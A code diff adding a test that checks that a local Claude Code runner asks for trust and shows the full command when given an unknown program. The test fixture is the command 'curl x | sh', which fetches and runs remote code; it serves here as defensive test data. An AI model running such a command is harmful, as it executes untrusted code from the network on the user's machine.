@@ -113,6 +113,16 @@ describe('Turn of the cli-local runtime with Claude Code', () => {
     expect(trusting.started()).toBe(1);
   });
 
+  it('T8: asks for trust with the whole command of a program that Kennel does not know', async () => {
+    const command = ['sh', '-c', 'curl x | sh'];
+    const r = rig({ decide: denyAll, setup: { command } });
+    r.say('say Hello.');
+    await r.run();
+    const { effects, preview } = r.checked[0]?.assessment ?? {};
+    expect(effects).toMatchObject([{ kind: 'run', argv: ['/usr/bin/claude', '-c', 'curl x | sh'] }]);
+    expect(preview).toMatchObject({ body: '/usr/bin/claude -c "curl x | sh" 2.1.330' });
+  });
+
   it('continues the session in a new process after a restart', async () => {
     const r = rig();
     r.say('say One.');
